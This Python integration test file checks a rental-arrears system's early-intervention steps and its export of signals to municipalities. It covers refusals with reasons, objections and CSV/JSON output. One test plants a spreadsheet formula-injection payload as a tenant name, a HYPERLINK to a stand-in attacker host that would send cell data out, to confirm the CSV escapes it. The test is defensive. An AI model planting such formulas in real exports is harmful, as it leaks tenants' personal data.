"""MVI and the Wgs export: every step is kept with its text, channel and time; a case goes to
the municipality only when all four steps are there, and a refused case names what is missing."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

from sqlalchemy import update

from herinnering.adapters.db.collection_tables import mvi_steps
from herinnering.adapters.db.tables import tenants
from herinnering.domain.payments.payments import PaymentStatus
from herinnering.services.legal.mvi import complete_task
from herinnering.services.legal.wgs_export import FIELDS, collect, mark_signalled
from herinnering.services.payments.collection import ladder_tick
from tests.integration.collection_helpers import (
    change,
    days,
    morning,
    open_tasks,
    posted_letter,
    report,
    rows,
    run_day,
)

SINCE = date(2026, 12, 1)
EXPORT_DAY = date(2027, 1, 4)  # 33 days after the missed debit: the default 30-day window is open


async def with_address(runtime: Any, tenant: Any) -> None:
    async with runtime.db.begin() as connection:
        await connection.execute(update(tenants).where(tenants.c.id == tenant.id).values(
            email="a.devries@example.nl", address="Lindelaan 12", postal_code="1234 AB", city="Utrecht",
            municipality="Utrecht"))


async def finish_task(runtime: Any, task: Any, channel: str, note: str | None = None) -> int:
    async with runtime.db.begin() as connection:
        return await complete_task(connection, runtime.settings, task.id, runtime.clock.now(), by="officer@delinde",
                                   channel=channel, note=note)


async def two_cases_through_the_ladder(runtime: Any, make_tenant: Any) -> tuple[Any, Any]:
    """Two tenants whose debit came back; the whole ladder runs. For the first, an officer
    calls and sends the letter; for the second, only the letter."""
    complete = await make_tenant(name="Anna de Vries", monthly_rent_cents=74550)
    incomplete = await make_tenant(name="Bram Bakker")
    await with_address(runtime, complete)
    for tenant in (complete, incomplete):
        await report(runtime, change(tenant, PaymentStatus.RETURNED))
    for day in days(date(2026, 12, 2), 23):
        await run_day(runtime, day)
        if day == date(2026, 12, 16):  # the ladder asked for the written reminder: it is posted that day
            for tenant in (complete, incomplete):
                await posted_letter(runtime, tenant, "written_reminder")
    for task in await open_tasks(runtime):
        if task.kind == "call_tenant" and task.tenant_id == complete.id:
            assert await finish_task(runtime, task, "phone", "Gebeld, wijst op budgetcoach") == 1
    runtime.clock.set(morning(EXPORT_DAY))
    await ladder_tick(runtime)  # records the debt-help message that went out
    return complete, incomplete


async def test_a_complete_case_is_exported_and_an_incomplete_one_refused_with_the_missing_step(
    runtime: Any, make_tenant: Any, fake_twilio: Any
) -> None:
    complete, incomplete = await two_cases_through_the_ladder(runtime, make_tenant)
    records = await rows(runtime, mvi_steps)
    written = next(r for r in records if r.step == "written_reminder")
    assert written.channel == "letter" and "gemeente" in written.text and "Beste " in written.text
    assert written.source_key.startswith("letter:")  # from the posted letter
    debt_help = [r for r in records if r.step == "debt_help"]
    assert len(debt_help) == 2 and all(r.channel == "sms" and "gemeente" in r.text for r in debt_help)

    async with runtime.db.begin() as connection:
        export = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
    [row] = export.rows
    assert (row.name, row.address, row.phone, row.email) == (
        "Anna de Vries", "Lindelaan 12, 1234 AB Utrecht", complete.phone, "a.devries@example.nl")
    assert (row.amount_eur, row.arrears_since, row.signal_date, row.type, row.landlord_id, row.municipality) == (
        "745.50", "2026-12-01", "2027-01-04", "Huur", runtime.settings.organisation.landlord_id, "Utrecht")
    assert "bsn" not in {f.lower() for f in FIELDS}
    [refused] = export.refused
    assert refused.contract_id == incomplete.external_id and "personal_contact" in refused.reason

    parsed = list(csv.DictReader(io.StringIO(export.csv())))
    assert parsed[0]["name"] == "Anna de Vries" and tuple(parsed[0]) == FIELDS
    assert json.loads(export.json())["signals"][0]["amount_eur"] == "745.50"

    async with runtime.db.begin() as connection:
        await mark_signalled(connection, export, runtime.clock.now())
        again = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
    assert again.rows == []  # signalled once; not again unless the debt grows


async def test_an_objection_blocks_the_signal(runtime: Any, make_tenant: Any, fake_twilio: Any) -> None:
    from herinnering.services.legal.mvi import manual_key, record

    complete, _ = await two_cases_through_the_ladder(runtime, make_tenant)
    [case_row] = [r for r in await rows(runtime, mvi_steps) if r.step == "personal_contact"]
    now = runtime.clock.now()
    async with runtime.db.begin() as connection:
        await record(connection, case_id=case_row.case_id, tenant_id=complete.id, step="objection", channel="phone",
                     text="Wil niet dat de gemeente wordt ingelicht", occurred_at=now, by="officer", now=now,
                     source_key=manual_key(case_row.case_id, "objection", "phone", "x", now))
        export = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
    assert export.rows == [] and any("objected" in r.reason for r in export.refused)


async def test_the_wgs_export_command_writes_csv_and_json_and_names_the_refused_case(
    runtime: Any, make_tenant: Any, fake_twilio: Any, tmp_path: Path, monkeypatch: Any, capsys: Any
) -> None:
    _, incomplete = await two_cases_through_the_ladder(runtime, make_tenant)
    from herinnering.cli import main

    monkeypatch.setenv("HERINNERING_DATABASE_URL", runtime.settings.database.url)
    out = tmp_path / "signalen.json"
    code = await asyncio.to_thread(main, ["wgs-export", "--since", "2026-12-01", "--out", str(out),
                                          "--now", "2027-01-04T10:00", "--dry-run"])
    printed = " ".join(capsys.readouterr().out.split())
    assert code == 0
    assert f"refused {incomplete.external_id} case" in printed and "missing MVI step personal_contact" in printed
    assert "the municipality is missing" in printed  # Bram's record has no address or municipality
    per_municipality = tmp_path / "signalen-utrecht.json"  # one file per municipality
    assert [s["name"] for s in json.loads(per_municipality.read_text())["signals"]] == ["Anna de Vries"]


async def test_every_refusal_names_why(runtime: Any, make_tenant: Any, fake_twilio: Any) -> None:
    """SMS 'contact' only, inside the objection window, under the minimum, no address: each says so."""
    from herinnering.services.legal.letters import generate

    sms_only, fresh_letter, small, homeless = [await make_tenant(name=n) for n in ("Sms", "Vers", "Klein", "Zonder")]
    for tenant in (sms_only, fresh_letter, small):
        await with_address(runtime, tenant)
    for tenant in (sms_only, fresh_letter, small, homeless):
        await report(runtime, change(tenant, PaymentStatus.RETURNED))
    await report(runtime, change(small, PaymentStatus.PARTLY_PAID, paid=70_000, reason=None,
                                 at=morning(date(2026, 12, 10))))
    for day in days(date(2026, 12, 2), 23):
        await run_day(runtime, day)
        if day == date(2026, 12, 16):
            for tenant in (sms_only, small, homeless):
                await posted_letter(runtime, tenant, "written_reminder")
    for task in await open_tasks(runtime):
        if task.kind == "call_tenant":
            await finish_task(runtime, task, "sms" if task.tenant_id == sms_only.id else "phone", "Gesproken")
    runtime.clock.set(morning(date(2027, 1, 2)))
    await generate(runtime, fresh_letter, "written_reminder", by="officer@delinde")
    runtime.clock.set(morning(EXPORT_DAY))
    from herinnering.services.legal.letters import make_post_batch, mark_batch_posted

    batch = await make_post_batch(runtime, by="officer@delinde")
    await mark_batch_posted(runtime, batch.batch_id, date(2027, 1, 2), by="officer@delinde")
    await ladder_tick(runtime)
    async with runtime.db.begin() as connection:
        export = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
    why = {r.contract_id: r.reason for r in export.refused}
    assert export.rows == [] and len(why) == 4
    assert "missing MVI step personal_contact" in why[sms_only.external_id]
    assert "may still object until 20-01-2027" in why[fresh_letter.external_id]  # posted Sat 2 Jan: received Wed 6th
    assert "under the minimum" in why[small.external_id]
    assert "the address (street and number, postcode, city) is missing" in why[homeless.external_id]
    assert "the municipality is missing" in why[homeless.external_id]
async def test_a_name_that_is_a_formula_reaches_the_municipality_as_text(
    runtime: Any, make_tenant: Any, fake_twilio: Any
) -> None:
    complete, _ = await two_cases_through_the_ladder(runtime, make_tenant)
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'
    async with runtime.db.begin() as connection:
        await connection.execute(update(tenants).where(tenants.c.id == complete.id).values(
            name=formula, address="@SUM(1+1)", city="-2+3"))
        export = await collect(connection, runtime.settings, SINCE, EXPORT_DAY)
    [row] = list(csv.DictReader(io.StringIO(export.csv())))
    assert row["name"] == "'" + formula  # a spreadsheet shows it, never runs it
    assert row["address"].startswith("'@SUM(1+1)")
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert json.loads(export.json())["signals"][0]["name"] == formula  # JSON carries the text unchanged
